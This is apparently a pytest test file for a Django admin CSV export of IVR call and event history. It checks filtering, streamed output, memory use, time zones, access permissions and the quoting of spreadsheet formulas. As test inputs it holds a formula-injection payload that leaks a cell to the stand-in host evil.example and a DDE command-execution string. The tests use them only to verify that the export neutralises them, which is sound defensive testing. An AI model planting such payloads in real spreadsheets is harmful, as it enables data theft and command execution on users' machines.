"""CSV export of the history lists: the rows of the list (its filters,
search and order), streamed in pieces through a database cursor with
memory that does not grow with the rows, times in the staff's zone, cells a
spreadsheet cannot run, and only for staff who may view the list."""

import csv
import io
import tracemalloc
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Group, User
from django.contrib.messages import get_messages
from django.core.management import call_command
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ivr.history import exports
from ivr.history.exports import BAD_RANGE, EXPORTS, safe_cell
from ivr.models import Call, CallEvent
from ivr.roles import VIEWERS
from tests.known_history import ZONE, Caller, local, make_known_history

pytestmark = pytest.mark.django_db

EVENTS_LIST = "/admin/ivr/callevent/"
CALLS_LIST = "/admin/ivr/call/"
EVENTS_EXPORT = "/admin/ivr/callevent/export/"
CALLS_EXPORT = "/admin/ivr/call/export/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def _staff_zone(settings):
    settings.TIME_ZONE = ZONE


@pytest.fixture
def history(webhook_client, payload, menu_tree):
    return make_known_history(webhook_client, payload)


def export(client, url, query="") -> tuple[StreamingHttpResponse, list[dict]]:
    response = client.get(url + query)
    assert response.status_code == 200, response
    text = b"".join(response.streaming_content).decode()
    return response, list(csv.DictReader(io.StringIO(text)))


def seed(*args):
    call_command("ivr_seed_history", *args, stdout=io.StringIO())


def bounds(history, first, last) -> str:
    """The list's own date filter for the days `first` to `last`."""
    since = local(first, 0, 0)
    until = local(last + timedelta(days=1), 0, 0)
    return f"occurred_at__gte={since}&occurred_at__lt={until}".replace("+", "%2B")


# --- The rows of the list ----------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?q=%2B65+9111+0002",  # a number, spelled with spaces: B's events
        "?q=6591110002",  # and without the "+"
        "?q=call-C",  # a session id
        "?outcome__exact=no_input",
        "?menu_key=sales",
        "?event_type=SESSION_SUMMARY",
        "?direction=INBOUND&outcome__exact=chose_option",
        "?o=0",  # oldest first
        "?q=call-A&o=-0",
    ],
)
def test_event_rows_are_the_lists(admin_client, history, query):
    listed = admin_client.get(EVENTS_LIST + query).context["cl"].result_list
    _, rows = export(admin_client, EVENTS_EXPORT, query)

    assert [row["event id"] for row in rows] == [e.event_id for e in listed]
    assert rows


def test_event_rows_follow_the_lists_date_filter(admin_client, history):
    query = "?" + bounds(history, history.day_2, history.day_2)
    listed = admin_client.get(EVENTS_LIST + query).context["cl"].result_list

    response, rows = export(admin_client, EVENTS_EXPORT, query)

    assert [row["event id"] for row in rows] == [e.event_id for e in listed]
    assert {row["session id"] for row in rows} == {"call-D"}
    assert response["Content-Disposition"] == (
        f'attachment; filename="call-events_{history.day_2}_to_{history.day_2}.csv"'
    )


@pytest.mark.parametrize(
    "query",
    ["", "?q=%2B6591110004", "?error=none", "?status=COMPLETED&direction=INBOUND"],
)
def test_call_rows_are_the_lists(admin_client, history, query):
    listed = admin_client.get(CALLS_LIST + query).context["cl"].result_list
    _, rows = export(admin_client, CALLS_EXPORT, query)

    assert [row["session id"] for row in rows] == [c.session_id for c in listed]
    assert rows


def test_from_and_to_replace_the_lists_date_filter(admin_client, history):
    query = (
        f"?{bounds(history, history.day_10, history.today)}"
        f"&from={history.day_1}&to={history.day_1}&q=call-B"
    )

    response, rows = export(admin_client, EVENTS_EXPORT, query)

    assert {row["session id"] for row in rows} == {"call-B"}
    assert len(rows) == 5  # four call actions and the summary
    assert response["Content-Disposition"] == (
        f'attachment; filename="call-events_{history.day_1}_to_{history.day_1}.csv"'
    )
    _, open_ended = export(admin_client, CALLS_EXPORT, f"?from={history.day_2}")
    assert {row["session id"] for row in open_ended} == {
        "call-A",
        "call-B",
        "call-C",
        "call-D",
    }


def test_without_dates_the_file_is_named_up_to_today(admin_client, history):
    response, rows = export(admin_client, CALLS_EXPORT)

    assert len(rows) == 5
    assert response["Content-Disposition"] == (
        f'attachment; filename="calls_until_{history.today}.csv"'
    )


@pytest.mark.parametrize(
    "query",
    [
        "?from=2026-02-30",
        "?from=2026-02-02&to=2026-02-01",
        "?to=soon",
        "?to=9999-12-31",
        "?from=0001-01-01",
    ],
)
def test_wrong_dates_go_back_to_the_list_saying_why(admin_client, history, query):
    response = admin_client.get(EVENTS_EXPORT + query)

    assert response.status_code == 302
    assert response["Location"] == EVENTS_LIST
    assert [str(m) for m in get_messages(response.wsgi_request)] == [BAD_RANGE]


def test_a_filter_the_list_does_not_know_goes_back_to_the_list(admin_client, history):
    response = admin_client.get(EVENTS_EXPORT + "?no_such_field=x")

    assert response.status_code == 302
    assert response["Location"] == EVENTS_LIST + "?e=1"


# --- What a row holds ------------------------------------------------------------


def test_the_columns_staff_need_without_the_request_body(admin_client, history):
    _, rows = export(admin_client, EVENTS_EXPORT, "?q=call-A-3")

    (row,) = rows
    assert row == {
        "time": f"{history.day_1}T10:15:20+08:00",
        "event id": "call-A-3",
        "event type": "CALL_ACTION",
        "status": "ACTION_COMPLETED",
        "session id": "call-A",
        "call id": "call-A-leg-a",
        "direction": "INBOUND",
        "caller": "+6591110001",
        "number called": "+6531581234",
        "menu": "sales",
        "digits": "1",
        "option": "1",
        "option label": "",
        "outcome": "Chose option",
        "SIP code": "200",
        "error": "",
    }


def test_the_request_body_only_when_asked(admin_client, history):
    _, rows = export(admin_client, EVENTS_EXPORT, "?q=call-A-3&payload=1")

    assert '"eventId": "call-A-3"' in rows[0]["payload"].replace('":"', '": "')


def test_a_call_row(admin_client, history):
    _, rows = export(admin_client, CALLS_EXPORT, "?q=call-C")

    (row,) = rows
    assert row["started"] == f"{history.day_1}T14:05:00+08:00"
    assert row["ended"] == f"{history.day_1}T14:05:50+08:00"
    assert (row["first menu"], row["last menu"]) == ("main", "main")
    assert (row["events"], row["legs"], row["duration (s)"]) == ("5", "1", "50")
    assert (row["last outcome"], row["status"]) == ("Retries exhausted", "COMPLETED")
    assert (row["8x8 error"], row["last action"]) == ("", "HANGUP")
    assert list(row) == [column.header for column in EXPORTS[Call].columns]


def test_times_are_in_the_staff_time_zone(admin_client, history, settings):
    settings.TIME_ZONE = "UTC"

    _, rows = export(admin_client, CALLS_EXPORT, "?q=call-D")

    # 00:30 in Singapore is 16:30 the day before in UTC.
    assert rows[0]["started"] == f"{history.day_2 - timedelta(days=1)}T16:30:00+00:00"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+6591234567", "+6591234567"),  # a phone number runs nothing
        ("+65 9123 4567", "'+65 9123 4567"),
        ("6591234567", "6591234567"),
        ("main", "main"),
        ("", ""),
        (-2003, -2003),  # a number is written as one
        (None, None),
    ],
)
def test_cells_a_spreadsheet_would_run_are_quoted(value, written):
    assert safe_cell(value) == written


def test_a_callers_formula_is_exported_as_text(
    admin_client, history, webhook_client, payload
):
    caller = Caller(
        webhook_client, payload, "call-F", FORMULA, local(history.day_1, 9, 0)
    )
    caller.received().press("0").ends()

    _, events = export(admin_client, EVENTS_EXPORT, "?q=call-F")
    _, calls = export(admin_client, CALLS_EXPORT, "?q=call-F")

    assert {row["caller"] for row in events} == {"'" + FORMULA}
    assert calls[0]["caller"] == "'" + FORMULA
    _, others = export(admin_client, CALLS_EXPORT, "?q=call-A")
    assert others[0]["caller"] == "+6591110001"


# --- Streaming ---------------------------------------------------------------------


def test_the_response_is_streamed_not_buffered(admin_client, history):
    response = admin_client.get(EVENTS_EXPORT)

    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert response["Content-Type"] == "text/csv"
    assert not response.has_header("Content-Length")


def test_rows_come_as_tuples_without_the_json_columns_or_a_count(admin_client, history):
    with CaptureQueriesContext(connection) as queries:
        export(admin_client, EVENTS_EXPORT, "?menu_key=main")

    (select,) = [q["sql"] for q in queries if 'FROM "ivr_callevent"' in q["sql"]]
    assert '"ivr_callevent"."payload"' not in select
    assert '"ivr_callevent"."response"' not in select
    assert "COUNT(" not in select.upper()


@pytest.fixture
def small_pieces(monkeypatch):
    """Pieces of a few rows, so that a test need not make millions."""
    monkeypatch.setattr(exports, "CHUNK_ROWS", 100)
    monkeypatch.setattr(exports, "FLUSH_BYTES", 4096)


def test_thousands_of_rows_go_out_in_small_pieces(
    admin_client, menu_tree, small_pieces
):
    seed("--events", "3000", "--days", "7", "--seed", "12")

    response = admin_client.get(EVENTS_EXPORT)
    pieces = list(response.streaming_content)

    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode())))
    assert len(rows) == 3001  # and the header
    assert len(pieces) > 40
    longest_row = max(len(",".join(row)) for row in rows) + 100
    assert max(len(piece) for piece in pieces) < 4096 + longest_row


def export_peak_memory(client) -> tuple[int, int]:
    """The export's rows and the most memory Python held while it ran."""
    response = client.get(EVENTS_EXPORT)
    tracemalloc.start()
    try:
        rows = sum(piece.count(b"\n") for piece in response.streaming_content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return rows, peak


def test_memory_stays_flat_as_the_rows_grow(admin_client, menu_tree, small_pieces):
    seed("--events", "1000", "--days", "7", "--seed", "1")
    few_rows, few_peak = export_peak_memory(admin_client)
    seed("--events", "9000", "--days", "7", "--seed", "2")
    many_rows, many_peak = export_peak_memory(admin_client)

    assert many_rows >= 10 * few_rows - 10
    # Ten times the rows, about the same memory: one piece at a time. A
    # buffered export would hold ten times as much.
    assert many_peak < 1.5 * few_peak


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="PostgreSQL's server-side cursors"
)
def test_postgresql_streams_from_a_server_side_cursor(
    admin_client, menu_tree, small_pieces
):
    seed("--events", "2000", "--days", "7", "--seed", "5")

    def open_cursors() -> list[str]:
        with connection.cursor() as cursor:
            cursor.execute("SELECT statement FROM pg_cursors")
            return [statement for (statement,) in cursor.fetchall()]

    pieces = iter(admin_client.get(EVENTS_EXPORT).streaming_content)
    next(pieces)
    next(pieces)

    # Half-way: the rows come from a cursor the server keeps, a hundred
    # (CHUNK_ROWS) at a time, not from a result read whole.
    (statement,) = open_cursors()
    assert "ivr_callevent" in statement
    assert 2 + sum(1 for _ in pieces) > 20
    assert open_cursors() == []


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="PostgreSQL's server-side cursors"
)
def test_a_download_stopped_half_way_closes_its_cursor(
    admin_client, menu_tree, small_pieces
):
    seed("--events", "1000", "--days", "7", "--seed", "6")
    pieces = exports.csv_chunks(
        CallEvent.objects.all(), EXPORTS[CallEvent], tz=ZoneInfo(ZONE)
    )
    next(pieces)
    next(pieces)

    # What the server does when the client goes away: it closes the
    # response, which closes this generator.
    pieces.close()

    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        assert cursor.fetchone() == (0,)
    assert CallEvent.objects.count() == 1000


# --- Who may export ------------------------------------------------------------------


def staff(client, *codenames):
    user = User.objects.create_user("staff", password="pw", is_staff=True)
    permissions = Group.objects.get(name=VIEWERS).permissions
    user.user_permissions.add(*permissions.filter(codename__in=codenames))
    client.force_login(user)
    return client


def test_staff_without_the_view_permission_get_403(client, history):
    staff(client)

    assert client.get(EVENTS_EXPORT).status_code == 403
    assert client.get(CALLS_EXPORT).status_code == 403


def test_each_export_needs_its_own_lists_permission(client, history):
    staff(client, "view_call")

    assert client.get(EVENTS_EXPORT).status_code == 403
    _, rows = export(client, CALLS_EXPORT)
    assert len(rows) == Call.objects.count()
    html = client.get(CALLS_LIST).content.decode()
    assert f'href="{CALLS_EXPORT}?"' in html


def test_viewers_export_both(client, history):
    user = User.objects.create_user("viewer", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name=VIEWERS))
    client.force_login(user)

    assert len(export(client, EVENTS_EXPORT)[1]) == CallEvent.objects.count()
    assert len(export(client, CALLS_EXPORT)[1]) == Call.objects.count()


def test_anonymous_visitors_are_sent_to_log_in(client, history):
    response = client.get(EVENTS_EXPORT)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_the_list_links_to_its_export_with_its_query(admin_client, history):
    html = admin_client.get(EVENTS_LIST + "?menu_key=sales&q=call-A").content.decode()

    assert f'href="{EVENTS_EXPORT}?menu_key=sales&amp;q=call-A"' in html
    assert 'id="export-range"' in html
    assert '<input type="hidden" name="menu_key" value="sales">' in html
